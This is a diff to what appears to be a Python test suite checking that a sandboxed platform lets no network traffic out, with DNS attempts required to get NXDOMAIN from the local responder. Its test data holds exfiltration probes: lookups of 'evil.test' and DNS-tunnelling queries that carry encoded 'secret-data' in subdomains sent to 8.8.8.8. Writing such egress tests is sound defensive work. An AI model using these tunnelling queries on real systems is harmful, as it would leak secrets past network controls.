@@ -30,6 +30,10 @@ def query(name, kind=1):
     labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
     head = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
     return head + labels + b"\\0" + struct.pack(">HH", kind, 1)
+def dns_tcp(host, name):
+    with socket.create_connection((host, 53), 3) as s:
+        s.sendall(struct.pack(">H", len(query(name))) + query(name))
+        return s.recv(4096)[2:].hex()
 def tls(host, port, sni, send):
     context = ssl.create_default_context(cafile="/run/pai/ca-bundle.pem")
     with socket.create_connection((host, port), 3) as raw, \\
@@ -121,9 +125,7 @@ ATTEMPTS = {
 # answered by the responder itself; nothing may leave
 DNS_ATTEMPTS = {
     "another dns server": "lambda: udp(HERE, 53, query('evil.test'))",
-    "dns over tcp to another server": (
-        "lambda: tcp(HERE, 53, struct.pack('>H', len(query('evil.test'))) + query('evil.test'))"
-    ),
+    "dns over tcp to another server": "lambda: dns_tcp(HERE, 'evil.test')",
     "data in names": "lambda: udp('8.8.8.8', 53, query('c2VjcmV0LWRhdGE.tunnel.test'))",
     "data in txt": "lambda: udp('127.0.0.1', 53, query('c2VjcmV0.tunnel.test', 16))",
 }
@@ -154,6 +156,7 @@ def run_attempt(platform: Platform, probe: str, code: str, **facts: object) -> d
     return result
 
 
+NXDOMAIN = 3
 DECLARED = ("llm.test", "api.notes.test", "open.test")
 
 
@@ -184,9 +187,10 @@ def test_no_way_out(platform: Platform, probe: str, other_address: str, name: st
 def test_no_name_leaves(platform: Platform, probe: str, name: str) -> None:
     before = contacts(platform)
     result = run_attempt(platform, probe, DNS_ATTEMPTS[name])
-    outcome = str(result["outcome"])
-    assert outcome.startswith("refused") or "1234" in outcome, outcome
-    assert platform.world.address not in outcome
+    answer = bytes.fromhex(str(result["outcome"]).removeprefix("answered "))
+    assert answer[:2] == b"\x12\x34"
+    assert answer[3] & 0x0F == NXDOMAIN
+    assert answer[6:8] == b"\0\0"
     assert float(str(result["seconds"])) < 1.0, result
     assert contacts(platform) == before
 
